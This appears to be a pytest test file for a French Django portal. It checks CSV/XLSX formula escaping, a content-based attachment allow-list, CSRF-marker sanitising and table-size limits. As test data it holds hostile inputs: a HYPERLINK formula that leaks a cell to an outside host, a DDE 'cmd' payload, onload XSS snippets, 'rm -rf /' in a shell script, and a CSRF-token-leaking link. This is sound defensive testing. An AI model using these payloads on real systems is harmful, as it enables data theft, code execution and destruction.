"""Hostile content: formulas in exports, dangerous attachments, the CSRF marker in rich text, tables too wide,
and refusals worded in French."""

import datetime
import io
import zipfile

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image
from pypdf import PdfWriter

from commissions.composition.models import SectionKind
from commissions.meetings.agenda import agenda_item_add
from commissions.meetings.services import meeting_create
from portal.generations import CSRF_PLACEHOLDER
from portal.sanitize import sanitize_html
from portal.spreadsheets import SpreadsheetError, escape_text, read_csv, read_xlsx
from portal.uploads import ATTACHMENT_KINDS, Kind, check_attachment, detect_kind
from tests.factories import PersonFactory, seat_member

HOSTILE = '=HYPERLINK("https://ailleurs.example/?d="&A1;"cliquez")'

# --- Formulas in the composition exports -------------------------------------------------------------------


@pytest.fixture
def hostile_member(commission):
    person = PersonFactory(last_name=HOSTILE, first_name="+1+cmd|' /C calc'!A0", email="@SUM(1+1)@example.org")
    seat_member(commission, SectionKind.PROFESSIONAL, person=person)
    return person


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_text_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert escape_text(text) == "'" + text


@pytest.mark.parametrize("text", ["KERN", "Colette", "colette.kern@example.org", "Saint-Denis", ""])
def test_ordinary_text_is_left_alone(text):
    assert escape_text(text) == text


def test_the_composition_csv_carries_no_live_formula(client, alice, commission, hostile_member):
    client.force_login(alice)

    response = client.get(reverse("commissions:composition_export", args=[commission.slug]), {"format": "csv"})

    text = response.content.decode("utf-8-sig")
    cells = [cell.strip('"') for line in text.splitlines()[1:] for cell in line.split(";")]
    assert "'=HYPERLINK" in text and "'+1+cmd" in text and "'@SUM(1+1)" in text
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


def test_the_composition_xlsx_carries_no_formula_cell(client, alice, commission, hostile_member):
    client.force_login(alice)

    response = client.get(reverse("commissions:composition_export", args=[commission.slug]), {"format": "xlsx"})

    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    names = {cell.value for cell in cells if isinstance(cell.value, str)}
    assert "'" + HOSTILE in names and "'+1+cmd|' /C calc'!A0" in names and "'@SUM(1+1)@example.org" in names
    assert any(isinstance(cell.value, datetime.datetime) for cell in cells)  # dates stay dates


# --- Attachments: an allow-list checked by content -----------------------------------------------------------


def pdf(*, password: str = "") -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    if password:
        writer.encrypt(password)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def archive(entries: dict[str, bytes], *, stored_first: str = "") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zipped:
        if stored_first:
            zipped.writestr(zipfile.ZipInfo(stored_first), entries.pop(stored_first))
        for name, content in entries.items():
            zipped.writestr(name, content)
    return buffer.getvalue()


def image(format_: str) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (4, 4), "blue").save(buffer, format_)
    return buffer.getvalue()


def odf(mimetype: str) -> bytes:
    return archive(
        {"mimetype": mimetype.encode(), "content.xml": b"<office:document-content/>"}, stored_first="mimetype"
    )


ACCEPTED = [
    ("compte-rendu.pdf", pdf, Kind.PDF),
    ("note.docx", lambda: archive({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"}), Kind.DOCX),
    ("tableau.xlsx", lambda: archive({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<w/>"}), Kind.XLSX),
    ("diapos.pptx", lambda: archive({"[Content_Types].xml": b"<T/>", "ppt/presentation.xml": b"<p/>"}), Kind.PPTX),
    ("note.odt", lambda: odf("application/vnd.oasis.opendocument.text"), Kind.ODT),
    ("tableau.ods", lambda: odf("application/vnd.oasis.opendocument.spreadsheet"), Kind.ODS),
    ("diapos.odp", lambda: odf("application/vnd.oasis.opendocument.presentation"), Kind.ODP),
    ("carte.png", lambda: image("PNG"), Kind.PNG),
    ("photo.jpg", lambda: image("JPEG"), Kind.JPEG),
    ("schema.gif", lambda: image("GIF"), Kind.GIF),
    ("photo.webp", lambda: image("WEBP"), Kind.WEBP),
]


@pytest.mark.parametrize(("name", "content", "kind"), ACCEPTED, ids=[case[0] for case in ACCEPTED])
def test_an_attachment_of_an_accepted_kind_is_recognised_by_its_content(name, content, kind):
    assert check_attachment(SimpleUploadedFile("sans-extension", content())) == kind
    assert kind in ATTACHMENT_KINDS


REFUSED = [
    ("ordre-du-jour.html", b"<!DOCTYPE html><html><script>fetch('/')</script></html>", "une page web (HTML)"),
    ("page.pdf", b"  <html><body onload=alert(1)>", "une page web (HTML)"),
    ("logo.svg", b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "une image SVG"),
    ("installer.exe", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00", "un programme exécutable"),
    ("outil", b"\x7fELF\x02\x01\x01\x00", "un programme exécutable"),
    ("script.sh", b"#!/bin/sh\nrm -rf /\n", "un programme exécutable"),
    ("photos.zip", archive({"photo.jpg": b"x"}), "une archive ZIP, ou un document Office avec des macros"),
    (
        "note.docm",
        archive({"[Content_Types].xml": b"<T/>", "word/document.xml": b"<w/>", "word/vbaProject.bin": b"x"}),
        "une archive ZIP, ou un document Office avec des macros",
    ),
    ("dossier.rar", b"Rar!\x1a\x07\x01\x00", "une archive"),
    ("dossier.7z", b"7z\xbc\xaf\x27\x1c\x00\x04", "une archive"),
    ("dossier.tar.gz", b"\x1f\x8b\x08\x00\x00\x00\x00\x00", "une archive"),
]


@pytest.mark.parametrize(("name", "content", "what"), REFUSED, ids=[case[0] for case in REFUSED])
def test_a_dangerous_attachment_is_refused_in_french_naming_the_file(name, content, what):
    with pytest.raises(ValidationError) as error:
        check_attachment(SimpleUploadedFile(name, content))

    [message] = error.value.messages
    assert message.startswith(f"Le fichier « {name} » n'est pas d'un type accepté (PDF, ")
    assert message.endswith(f" : c'est {what}.")


def test_a_file_of_unknown_content_is_refused_without_guessing_what_it_is():
    with pytest.raises(ValidationError) as error:
        check_attachment(SimpleUploadedFile("notes.txt", b"Texte brut, sans type reconnu."))

    assert error.value.messages[0].startswith("Le fichier « notes.txt » n'est pas d'un type accepté (")
    assert error.value.messages[0].endswith(").")


def test_an_encrypted_pdf_is_refused():
    with pytest.raises(ValidationError) as error:
        check_attachment(SimpleUploadedFile("confidentiel.pdf", pdf(password="secret")))

    assert error.value.messages == [
        "Le fichier « confidentiel.pdf » est un PDF protégé par un mot de passe : enregistrez-le sans protection."
    ]


def test_a_pdf_that_does_not_open_is_refused():
    with pytest.raises(ValidationError) as error:
        check_attachment(SimpleUploadedFile("tronque.pdf", b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog"))

    assert error.value.messages == [
        "Le fichier « tronque.pdf » n'est pas un PDF lisible (fichier endommagé ou incomplet)."
    ]


def test_a_path_in_the_uploaded_name_is_not_repeated_in_the_message():
    with pytest.raises(ValidationError) as error:
        check_attachment(SimpleUploadedFile("C:\\Users\\agent\\page.html", b"<html>"))

    assert "« page.html »" in error.value.messages[0] and "Users" not in error.value.messages[0]


def test_an_opendocument_whose_mimetype_is_unknown_is_not_recognised():
    fake = odf("application/x-shellscript")

    assert detect_kind(SimpleUploadedFile("note.odt", fake)) is None


# --- The CSRF marker of cached fragments cannot come from content --------------------------------------------


@pytest.mark.parametrize(
    "html",
    [
        f'<a href="https://ailleurs.example/?t={CSRF_PLACEHOLDER}">lien</a>',
        f"<p>{CSRF_PLACEHOLDER}</p>",
        "<p>" + CSRF_PLACEHOLDER.replace("-", "&#45;") + "</p>",  # entities, decoded by the sanitiser
        "<p>" + CSRF_PLACEHOLDER[:10] + CSRF_PLACEHOLDER + CSRF_PLACEHOLDER[10:] + "</p>",  # one inside the other
    ],
)
def test_sanitised_content_never_holds_the_csrf_marker(html):
    assert CSRF_PLACEHOLDER not in sanitize_html(html)


def test_a_link_in_an_agenda_item_does_not_carry_the_readers_csrf_token(client, alice, commission, frozen_today):
    meeting = meeting_create(commission=commission, date=datetime.date(2026, 12, 3), start_time=datetime.time(10, 0))
    agenda_item_add(
        meeting=meeting,
        title="Point piégé",
        content=f'<p><a href="https://ailleurs.example/?t={CSRF_PLACEHOLDER}">Voir le document</a></p>',
    )
    client.force_login(alice)

    page = client.get(meeting.get_absolute_url()).content.decode()

    assert "Voir le document" in page
    assert 'href="https://ailleurs.example/?t="' in page
    assert 'name="csrfmiddlewaretoken"' in page  # the page's own forms still get the reader's token


# --- Refusals of the spreadsheet reader: in French, and no table wider than 200 columns ----------------------


def test_a_csv_field_past_the_limit_is_refused_in_french_naming_the_line():
    with pytest.raises(SpreadsheetError) as error:
        read_csv(b'Nom;Remarque\nKERN;ok\nROUX;"guillemet jamais ferm\xc3\xa9\n' + b"x" * 140_000)

    assert error.value.line == 3
    assert error.value.message == "CSV mal formé : un champ dépasse 131\xa0072 caractères (guillemet non refermé ?)."
    assert error.value.detail.startswith("ligne 3 : ")
    assert "field" not in error.value.message + error.value.detail


def test_the_composition_import_words_a_malformed_csv_in_french(client, alice, commission):
    client.force_login(alice)
    content = b'Section;Organisation;R\xc3\xb4le\nsociale;CPAM 13;"titulaire\n' + b"x" * 140_000
    response = client.post(
        reverse("commissions:composition_import", args=[commission.slug]),
        {"file": SimpleUploadedFile("composition.csv", content, content_type="text/csv"), "effective_on": "2026-01-01"},
    )

    page = response.content.decode()
    assert "Le fichier CSV est mal formé : ligne 2 : un champ dépasse 131" in page
    assert "field limit" not in page


def test_a_csv_of_10000_columns_is_refused_before_any_preview():
    wide = ";".join(f"col{index}" for index in range(10_000)).encode() + b"\n"

    with pytest.raises(SpreadsheetError) as error:
        read_csv(b"Titre\n" + wide)

    assert (error.value.code, error.value.line) == ("too_many_columns", 2)
    assert error.value.message == "Le tableau compte 10\xa0000 colonnes : 200 au plus sont acceptées."


def test_empty_cells_at_the_end_of_a_row_do_not_count_as_columns():
    grid = read_csv(b"a;b" + b";" * 500 + b"\n")

    assert grid.rows[0][1][:2] == ["a", "b"]


def test_a_workbook_of_300_columns_is_refused_unread():
    workbook = openpyxl.Workbook()
    workbook.active.append([f"col{index}" for index in range(300)])
    buffer = io.BytesIO()
    workbook.save(buffer)

    with pytest.raises(SpreadsheetError) as error:
        read_xlsx(buffer.getvalue())

    assert error.value.code == "too_many_columns"
    assert error.value.message == "Le tableau compte 300 colonnes : 200 au plus sont acceptées."


def test_a_table_of_200_columns_is_read():
    row = ";".join(str(index) for index in range(200)).encode()

    assert len(read_csv(row + b"\n").rows[0][1]) == 200
